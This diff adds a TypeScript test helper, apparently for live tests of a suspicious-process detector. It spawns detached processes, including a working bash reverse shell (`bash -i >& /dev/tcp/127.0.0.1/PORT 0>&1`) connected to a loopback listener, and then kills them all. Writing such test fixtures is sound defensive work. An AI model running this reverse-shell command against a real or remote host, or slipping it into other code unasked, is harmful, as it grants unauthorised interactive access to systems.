@@ -1,0 +1,68 @@
+// Real suspicious processes for the live `detect` tests: each started detached (its own session and process
+// group, no terminal), a bash reverse shell to a loopback listener among them, all ended together.
+import {type ChildProcess, spawn} from 'node:child_process';
+import {createServer, type Server, type Socket} from 'node:net';
+
+export interface StartOptions {
+  /** argv[0] as `exec -a` sets it. */
+  readonly argv0?: string;
+  /** The environment (default: the test's own). */
+  readonly env?: NodeJS.ProcessEnv;
+}
+
+export class SuspectProcesses {
+  private readonly children: ChildProcess[] = [];
+  private readonly sockets: Socket[] = [];
+  private server: Server | undefined;
+
+  /** Start a long-lived process in its own session; resolves with its pid once it is spawned. */
+  start(command: string, args: readonly string[], options: StartOptions = {}): Promise<number> {
+    return new Promise((resolve, reject) => {
+      const child = spawn(command, args, {
+        detached: true,
+        stdio: 'ignore',
+        ...(options.argv0 === undefined ? {} : {argv0: options.argv0}),
+        ...(options.env === undefined ? {} : {env: options.env}),
+      });
+      this.children.push(child);
+      child.once('error', reject);
+      child.once('spawn', () => (child.pid === undefined ? reject(new Error(`${command} has no pid`)) : resolve(child.pid)));
+    });
+  }
+
+  /**
+   * `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` to a listener of its own; resolves with the outer bash's pid once
+   * the shell has connected. `; true` keeps the outer bash -c from exec'ing the inner one, so its command line
+   * stays the reverse shell's.
+   */
+  async reverseShell(options: StartOptions = {}): Promise<number> {
+    const connected = new Promise<void>((resolve) => {
+      this.server = createServer((socket) => {
+        this.sockets.push(socket);
+        resolve();
+      });
+    });
+    const port = await new Promise<number>((resolve) => {
+      this.server?.listen(0, '127.0.0.1', () => {
+        const address = this.server?.address();
+        resolve(typeof address === 'object' && address !== null ? address.port : 0);
+      });
+    });
+    const pid = await this.start('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`], options);
+    await connected;
+    return pid;
+  }
+
+  /** Close the listener and kill every process group started (the inner bash of the shell, a shell's sleep). */
+  stopAll(): void {
+    for (const socket of this.sockets) socket.destroy();
+    this.server?.close();
+    for (const child of this.children) {
+      try {
+        if (child.pid !== undefined) process.kill(-child.pid, 'SIGKILL');
+      } catch {
+        // already gone
+      }
+    }
+  }
+}
